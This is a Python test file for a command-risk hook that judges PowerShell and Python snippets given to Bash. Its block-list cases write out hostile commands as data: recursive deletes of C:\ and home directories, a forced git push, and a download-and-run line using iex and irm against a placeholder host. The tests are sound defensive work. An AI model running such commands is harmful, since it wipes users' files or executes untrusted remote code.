"""PowerShell and Python given to Bash are judged as such, and never less than Bash would run."""

from hookd.risk.other_languages import translated
from support.parametrize import parametrize_all
from support.risks import judged

PASSED = [
    "& .venv\\Scripts\\python.exe --version",
    "& (./tool find 3.13) -m venv .venv",
    'Write-Host "x"\nif ($LASTEXITCODE -eq 0) { dotnet test }',
    '$x = @(\n  "${env:ProgramFiles}\\a.exe"\n)\n$x | Where-Object { Test-Path $_ }',
    'winget install x\n& "$env:LOCALAPPDATA\\x\\py.exe" install 3.14',
    '# setup\n$env:A = tool config get a\necho "A=$env:A" >> $env:GITHUB_ENV',
    "import sys\nif (sys.version_info >= (3, 11)):\n    print('new')",
    "#!/usr/bin/env python3\n\nfrom pathlib import Path\nprint(Path('.').exists())",
]
STOPPED = [
    ("Write-Host x\nRemove-Item -Recurse -Force C:\\", "deny deletes"),
    ("& Remove-Item -Recurse -Force src", "ask deletes"),
    ("$null = Remove-Item -Recurse -Force ~/", "deny deletes"),
    ("Write-Host x\nif ($x) { Remove-Item -Recurse -Force ~ }", "deny deletes"),
    ('iex "& {$(irm get.example)} -Admin"\nWrite-Host x', "deny network-shell"),
    ("Write-Host x\nrm -rf ~", "deny deletes"),
    ("Write-Host x\nif (\nrm -rf ~", "deny deletes"),
    ("import shutil\nshutil.rmtree('/home/me')", "deny deletes"),
    ("import os\nos.system('git push --force')", "deny force-push"),
    ("import sys\nx = 'rm -rf ~'\nif (x):\n    pass", "ask deletes"),
    ("import sys\nif (", "ask unreadable"),
    ("import sys\nif (1): print('$(cat x)')", "ask unreadable"),
    ("from x import y; if (", "ask unreadable"),
]
NEITHER = [
    *["ls", "import x.png y.png", "Write-Host=1; ls", "a=$(x)\n$b = c", "$x = y", "npm ci &\n& x"],
    *["Write-Host x\nfor f in *; do ls; done", 'cat <<E\n& "$env:A"\nE', "a \\\n& $b\\c"],
    *["$env:A = 1\nexport B=2", "import sys\ncat <<E\nE", "& " + "x" * 40_000],
]


@parametrize_all("text", PASSED)
def test_a_harmless_text_of_another_language_passes(text: str) -> None:
    assert judged(text) == ""


@parametrize_all(("text", "expected"), STOPPED)
def test_what_it_does_in_its_own_language_or_in_bash_is_stopped(text: str, expected: str) -> None:
    assert judged(text) == expected


@parametrize_all("text", NEITHER)
def test_a_text_of_a_shell_is_read_as_one(text: str) -> None:
    assert translated(text) is None
